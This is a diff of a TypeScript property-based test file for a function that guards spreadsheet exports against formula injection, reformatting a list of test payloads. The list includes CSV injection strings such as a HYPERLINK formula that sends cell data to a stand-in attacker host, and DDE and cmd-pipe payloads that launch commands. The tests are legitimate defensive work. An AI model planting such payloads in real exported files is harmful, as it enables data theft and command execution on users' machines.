@@ -22,22 +22,28 @@ const PAYLOADS = [
   '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
   "+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+9)*cmd|\' /C calc\'!A0',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '=1+1',
-  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
 ];
 
 const hostile = fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\t=', ' =', '', '-1', '+1'), fc.string({ maxLength: 30 }));
-const cell = fc.oneof(
-  hostile.map(([a, b]) => a + b),
-  fc.constantFrom(...PAYLOADS),
-  fc.constantFrom('-5', '+3.25', '-0.5e3', '42', 'plain text'),
-).filter((s) => !/^\s*nan\s*$/i.test(s));
+const cell = fc
+  .oneof(
+    hostile.map(([a, b]) => a + b),
+    fc.constantFrom(...PAYLOADS),
+    fc.constantFrom('-5', '+3.25', '-0.5e3', '42', 'plain text'),
+  )
+  .filter((s) => !/^\s*nan\s*$/i.test(s));
 
 const columns = ['id', 'activity_name', 'remark'];
-const table = (rows: string[][]) => exportTable(columns, rows.map((cells, i) => ({ cells, result: result(String(i + 1), i + 1, 'pass') })));
+const table = (rows: string[][]) =>
+  exportTable(
+    columns,
+    rows.map((cells, i) => ({ cells, result: result(String(i + 1), i + 1, 'pass') })),
+  );
 const expected = (s: string) => (looksLikeFormula(s) ? `'${s}` : s);
 
 describe('guardFormula', () => {
